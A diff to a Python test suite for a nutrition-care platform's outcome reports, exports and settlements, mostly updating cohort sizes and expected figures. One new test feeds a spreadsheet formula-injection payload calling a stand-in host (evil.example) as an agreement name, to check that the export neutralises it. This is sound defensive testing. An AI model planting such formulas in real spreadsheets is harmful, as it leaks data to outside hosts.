@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import csv
 import io
+import zipfile
 from datetime import UTC, date, datetime, timedelta
 from decimal import Decimal
 
@@ -11,12 +12,21 @@ import openpyxl
 import pytest
 
 from nutriplat.clients.models import Client, Consent, Measurement, StatusChange
+from nutriplat.clock import simulated_day
 from nutriplat.indicators.disclosure import exposed
 from nutriplat.indicators.models import Settlement
 from nutriplat.indicators.report import Row
 from nutriplat.screening.models import Screening
 
-NAMES = [f"Persoon{n:02d}" for n in range(14)]
+NAMES = [f"Persoon{n:02d}" for n in range(19)]
+SCREENED = 14  # the last five are never screened: 14 of 19 leaves five outside the count
+
+
+@pytest.fixture(autouse=True)
+def _today():
+    """The reports' periods close on fixed dates: the tests live on 7 December 2026."""
+    with simulated_day(date(2026, 12, 7)):
+        yield
 
 
 @pytest.fixture
@@ -29,7 +39,8 @@ def parties(world):
 
 @pytest.fixture
 def pilot(parties, uow):
-    """14 active clients with consent, screened in Q2 and Q3 2026, weighed monthly."""
+    """19 active clients with consent, 14 of them screened in Q2 and Q3 2026 (10 at risk in Q2, 5 of
+    them improved in Q3), all weighed monthly."""
     admin = parties[0]
     with uow:
         ids = []
@@ -47,7 +58,8 @@ def pilot(parties, uow):
                 *[Screening(client_id=client.id, instrument="must", instrument_version="t", answers={}, derived={},
                             components={}, risk=risk, performed_at=datetime(2026, month, 10, 9, tzinfo=UTC),
                             performed_on=date(2026, month, 10), next_due=date(2026, month, 10))
-                  for month, risk in ((4, "high" if n < 8 else "low"), (7, "high" if n < 3 else "low"))],
+                  for month, risk in ((4, "high" if n < 10 else "low"), (7, "high" if n < 5 else "low"))
+                  if n < SCREENED],
                 *[Measurement(client_id=client.id, type="weight_kg", value=60 + n + month / 10,
                               measured_at=datetime(2026, month, 5, 9, tzinfo=UTC)) for month in range(3, 10)]])
         uow.commit()
@@ -58,7 +70,7 @@ AGREEMENT = {
     "name": "Ondervoeding Roeselare", "starts_on": "2026-04-01", "ends_on": "2027-03-31",
     "baseline_period": "2026Q2", "settlement_period": "quarter",
     "cohort": {"conditions_any": ["parkinson", "parkinsonism"], "regions": ["Roeselare"]},
-    "indicators": [{"code": "screening_coverage", "target": 90}, {"code": "risk_improved_3m", "target": "40"},
+    "indicators": [{"code": "screening_coverage", "target": 70}, {"code": "risk_improved_3m", "target": "40"},
                    {"code": "mean_weight_change", "target": 0}, {"code": "hospital_admissions"},
                    {"code": "cost_per_client_month", "version": 1}],
     "payment_rules": [
@@ -95,7 +107,7 @@ def as_rows(payload):
 
 def test_an_agreement_freezes_indicator_versions_and_its_terms(agreement):
     assert [(i["code"], i["version"], i["target"]) for i in agreement["indicators"]][:3] == [
-        ("screening_coverage", 1, "90"), ("risk_improved_3m", 1, "40"), ("mean_weight_change", 1, "0")]
+        ("screening_coverage", 1, "70"), ("risk_improved_3m", 1, "40"), ("mean_weight_change", 1, "0")]
     assert agreement["payment_rules"][0]["params"]["price_per_client"] == "150.00"
     assert agreement["payment_rules"][2]["params"]["share"] == "0.5"
 
@@ -138,17 +150,17 @@ def test_the_report_compares_baseline_and_follow_up_and_suppresses_small_cells(h
     totals = {(r["indicator"], r["period"]): r for r in rows if r["disaggregation"] == {}}
     assert totals[("screening_coverage", "2026Q2")] == {
         "indicator": "screening_coverage", "period": "2026Q2", "disaggregation": {}, "numerator": 14.0,
-        "denominator": 14.0, "value": 100.0, "suppressed": False}
+        "denominator": 19.0, "value": 73.7, "suppressed": False}
     q3 = report(http, funder, agreement["id"], period="2026Q3").json
     improved = next(r for r in q3["rows"] if r["indicator"] == "risk_improved_3m" and r["period"] == "2026Q3"
                     and r["disaggregation"] == {})
-    assert (improved["numerator"], improved["denominator"], improved["value"]) == (5.0, 8.0, 62.5)
+    assert (improved["numerator"], improved["denominator"], improved["value"]) == (5.0, 10.0, 50.0)
     for row in q3["rows"]:
         if row["suppressed"]:
             assert row["numerator"] is None and row["denominator"] is None and row["value"] is None
     by_sex = [r for r in q3["rows"] if r["indicator"] == "risk_improved_3m" and "sex" in r["disaggregation"]
               and r["period"] == "2026Q3"]
-    assert by_sex and all(r["suppressed"] for r in by_sex)  # 4 women (2 improved), 4 men (3 improved): too few
+    assert by_sex and all(r["suppressed"] for r in by_sex)  # 5 women (2 improved), 5 men (3 improved): too few
     assert exposed(as_rows(q3)) == []
     assert {c["indicator"] for c in q3["charts"]} == {i["code"] for i in q3["indicators"]}
 
@@ -171,7 +183,7 @@ def test_csv_and_xlsx_carry_the_same_rows(http, parties, agreement):
     table = list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
     assert len(table) == len(as_json)
     assert table[0] == {"indicator": "screening_coverage", "period": "2026Q2", "dimension": "", "category": "",
-                        "numerator": "14", "denominator": "14", "value": "100.0", "suppressed": "False"}
+                        "numerator": "14", "denominator": "19", "value": "73.7", "suppressed": "False"}
     workbook = openpyxl.load_workbook(io.BytesIO(report(http, admin, agreement["id"], format="xlsx").data))
     assert workbook.sheetnames == ["Report", "Indicators", "About"]
 
@@ -190,18 +202,21 @@ def test_a_trend_chart_is_an_image(http, parties, agreement):
 def test_bad_periods_are_refused(http, parties, agreement):
     admin = parties[0]
     assert report(http, admin, agreement["id"], period="2026Q7").status_code == 422
-    assert report(http, admin, agreement["id"], period="2099").json["errors"] == {"period": ["Has not started yet."]}
+    assert report(http, admin, agreement["id"], period="2099").json["errors"]["period"][0].startswith(
+        "The agreement reports per quarter: 2026Q2, 2026Q3")
     assert report(http, admin, agreement["id"], format="pdf").status_code == 422
 
 
-def test_withdrawing_consent_removes_the_client_from_later_reports(http, parties, agreement, pilot, world):
+def test_withdrawing_consent_leaves_the_periods_not_yet_reported(http, parties, agreement, pilot, world):
     admin, funder, _ = parties
     dora = world.person("dora", "dietitian")
     before = report(http, funder, agreement["id"], period="2026Q2").json["rows"][0]
     consent = http.get(f"/api/v1/clients/{pilot[0]}/consents", headers=dora.headers).json[0]
     assert http.delete(f"/api/v1/clients/{pilot[0]}/consents/{consent['id']}", headers=dora.headers).status_code == 200
-    after = report(http, funder, agreement["id"], period="2026Q2").json["rows"][0]
-    assert (before["indicator"], before["denominator"], after["denominator"]) == ("screening_coverage", 14.0, 13.0)
+    q3 = report(http, funder, agreement["id"], period="2026Q3").json["rows"]
+    after = next(row for row in q3 if row["period"] == "2026Q3" and not row["disaggregation"])
+    assert (before["indicator"], before["denominator"], after["denominator"]) == ("screening_coverage", 19.0, 18.0)
+    assert q3[0] == before  # 2026Q2, as released before: frozen
 
 
 def test_a_settlement_statement_is_issued_once_and_recomputes_to_the_cent(http, parties, agreement, uow):
@@ -212,18 +227,18 @@ def test_a_settlement_statement_is_issued_once_and_recomputes_to_the_cent(http, 
     statement = response.json
     lines = {line["kind"]: line for line in statement["lines"]}
     assert lines["per_client_outcome"]["amount"] == "750.00"  # 5 clients improved × 150
-    assert lines["threshold"]["amount"] == "2500.00"  # 14 of 14 screened ≥ 90 %
+    assert lines["threshold"]["amount"] == "2500.00"  # 14 of 19 screened ≥ 70 %
     assert lines["start_budget"]["amount"] == "10000.00"
-    assert lines["shared_savings"]["amount"] == "10500.00"  # (500 × 42 client-months − 0 invoiced) × 0.5
-    assert statement["total"] == "23750.00"
+    assert lines["shared_savings"]["amount"] == "14250.00"  # (500 × 57 client-months − 0 invoiced) × 0.5
+    assert statement["total"] == "27500.00"
     assert [s["description"] for s in lines["per_client_outcome"]["steps"]][0].startswith("clients reaching")
     coverage = next(i for i in statement["indicators"] if i["code"] == "screening_coverage")
     assert (coverage["value"], coverage["target"], coverage["baseline_value"], coverage["met"]) == (
-        "100.0", "90", "100.0", True)
-    assert statement["snapshot"]["cohort_clients"] == 14 and statement["status"] == "issued"
+        "73.7", "70", "73.7", True)
+    assert statement["snapshot"]["cohort_clients"] == 19 and statement["status"] == "issued"
     assert http.post(path, headers=admin.headers, json={"period": "2026Q3"}).status_code == 409
     verified = http.get(f"/api/v1/settlements/{statement['id']}/verification", headers=funder.headers).json
-    assert verified == {"settlement_id": statement["id"], "stored_total": "23750.00", "recomputed_total": "23750.00",
+    assert verified == {"settlement_id": statement["id"], "stored_total": "27500.00", "recomputed_total": "27500.00",
                         "checksum_matches": True, "matches": True}
     assert http.get(path, headers=funder.headers).json[0]["id"] == statement["id"]
     with uow:
@@ -238,14 +253,14 @@ def test_only_complete_periods_of_the_agreements_kind_are_settled(http, parties,
     path = f"/api/v1/agreements/{agreement['id']}/settlements"
     monthly = http.post(path, headers=admin.headers, json={"period": "2026-08"})
     assert monthly.status_code == 422 and "settles per quarter" in monthly.json["errors"]["period"][0]
-    later = (date.today() + timedelta(days=120))
+    later = date(2026, 12, 7) + timedelta(days=120)
     future = http.post(path, headers=admin.headers, json={"period": f"{later.year}Q{(later.month + 2) // 3}"})
     assert future.status_code == 422
     before = http.post(path, headers=admin.headers, json={"period": "2026Q1"})
     assert before.status_code == 422 and "within the agreement" in before.json["errors"]["period"][0]
 
 
-def test_the_monthly_snapshot_job_stores_each_month_once(http, parties, agreement):
+def test_the_monthly_snapshot_job_freezes_each_reporting_period_once(http, parties, agreement):
     from nutriplat.billing.domain.months import Month
     from nutriplat.db import UnitOfWork
     from nutriplat.jobs.registry import JOBS
@@ -253,9 +268,24 @@ def test_the_monthly_snapshot_job_stores_each_month_once(http, parties, agreemen
     _, funder, _ = parties
     factory = http.application.extensions["nutriplat"].session_factory
     job = JOBS["indicator-snapshot"]
+    assert job.run(lambda: UnitOfWork(factory), Month(2026, 8)) == {"snapshots": 0}  # not a quarter's end
     assert job.run(lambda: UnitOfWork(factory), Month(2026, 9)) == {"snapshots": 1}
     assert job.run(lambda: UnitOfWork(factory), Month(2026, 9)) == {"snapshots": 0}
     assert job.run(lambda: UnitOfWork(factory), Month(2026, 3)) == {"snapshots": 0}  # before the agreement
     [snapshot] = http.get(f"/api/v1/agreements/{agreement['id']}/snapshots", headers=funder.headers).json
     coverage = next(r for r in snapshot["rows"] if r["indicator"] == "screening_coverage" and not r["disaggregation"])
-    assert snapshot["period"] == "2026-09" and coverage["numerator"] == "0" and coverage["denominator"] == "14"
+    assert snapshot["period"] == "2026Q3" and coverage["numerator"] == "14" and coverage["denominator"] == "19"
+
+
+def test_an_agreement_named_as_a_formula_stays_text_in_the_workbook(http, parties, pilot):
+    admin, funder, _ = parties
+    name = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
+    made = http.post("/api/v1/agreements", headers=admin.headers,
+                     json=AGREEMENT | {"cofinancer_id": funder.organisation_id, "name": name}).json
+    data = report(http, funder, made["id"], period="2026Q3", format="xlsx").data
+    with zipfile.ZipFile(io.BytesIO(data)) as package:
+        assert not any("<f>" in package.read(part).decode() for part in package.namelist()
+                       if part.startswith("xl/worksheets/"))
+    about = openpyxl.load_workbook(io.BytesIO(data))["About"]
+    cell = next(c for row in about.iter_rows() for c in row if c.value == name)
+    assert cell.data_type == "s" and cell.quotePrefix
